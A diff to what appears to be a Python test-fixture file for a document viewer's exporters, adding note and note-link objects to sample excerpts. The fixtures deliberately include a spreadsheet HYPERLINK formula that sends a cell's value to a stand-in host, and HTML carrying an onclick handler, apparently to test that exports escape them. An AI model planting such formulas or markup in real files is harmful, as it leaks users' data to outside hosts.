@@ -6,7 +6,18 @@ from collections.abc import Iterator
 from dataclasses import replace
 
 from viewer.citation import cite
-from viewer.domain import DocumentId, Excerpt, Kind, ParagraphId, Role, TagId, ThemeId
+from viewer.domain import (
+    Anchor,
+    AnnotationId,
+    DocumentId,
+    Excerpt,
+    Kind,
+    ParagraphId,
+    Role,
+    TagId,
+    ThemeId,
+)
+from viewer.domain.notes import ExcerptNote, LinkKind, NoteLink, NoteLinkId
 from viewer.exporters import ExportOptions
 
 OPTIONS = ExportOptions(title="Excerpts on cooperation", exported_at="2025-11-21T09:30:00Z")
@@ -41,6 +52,35 @@ RESOLUTION = Excerpt(
         role=Role.OPERATIVE,
         page=3,
     ),
+)
+
+
+def note(body: str, *links: NoteLink) -> ExcerptNote:
+    return ExcerptNote(AnnotationId(1), body, "Amina", "2025-11-20T08:30:00Z", links)
+
+
+LINK = NoteLink(
+    id=NoteLinkId(1),
+    uuid="6c5cf2d2-4d4c-4a7c-8f2e-6b8c3d3b1c11",
+    note=AnnotationId(1),
+    kind=LinkKind.FOLLOWS_UP,
+    document=DocumentId(2),
+    anchor=Anchor(ParagraphId(40), 0, 8),
+    index=4,
+    to_note=None,
+    quote="وإذ تشير",
+    citation="A *starred* <title>, 2014, para. (a)",
+    created_by="Amina",
+    created_at="2025-11-20T08:31:00Z",
+)
+
+ORPHAN = replace(
+    LINK,
+    id=NoteLinkId(2),
+    kind=LinkKind.SOURCE,
+    quote="Recalling all its relevant resolutions; " * 20,
+    citation="A/RES/67/264",
+    orphan=True,
 )
 
 NOTE = """# Compare 2015
@@ -84,7 +124,7 @@ MARKUP = replace(
     role=None,
     page=None,
     text='# Not *a* heading: <b onclick="x">1 < 2 & 3</b> &amp; _low_ [link](http://x) `code` \\ | ~',
-    notes=("one line", "=not a formula in a note"),
+    notes=(note("one line"), note("=not a formula in a note", LINK, ORPHAN)),
     citation="A *starred* <title>, para. (a)",
 )
 
@@ -98,7 +138,7 @@ FORMULA = replace(
     start=3,
     end=40,
     text='=HYPERLINK("http://example.org?"&A1,"click")',
-    notes=(NOTE,),
+    notes=(note(NOTE),),
 )
 
 CONTROLS = replace(
